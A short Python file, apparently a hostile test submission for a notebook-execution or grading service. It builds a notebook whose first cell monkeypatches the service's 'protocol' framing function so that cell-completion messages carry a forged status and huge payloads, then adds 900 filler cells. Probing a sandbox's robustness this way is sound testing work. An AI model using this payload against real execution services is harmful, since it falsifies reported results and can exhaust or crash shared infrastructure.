import hand_ins

FORGE = """
import sys
_wire = sys.modules["protocol"]
_frame = _wire.frame

def _grown(message):
    if type(message).__name__ == "CellFinished":
        message = _wire.CellFinished(message.call, message.index, False, "E" * 500_000, 2**62, "x" * 500_000)
    return _frame(message)

_wire.frame = _grown
"""


def hand_in(document):
    cells = [hand_ins.code_cell(FORGE)]
    cells += [hand_ins.code_cell(f"print({number})") for number in range(900)]
    document["cells"] = cells + document["cells"]
    return hand_ins.as_bytes(document)
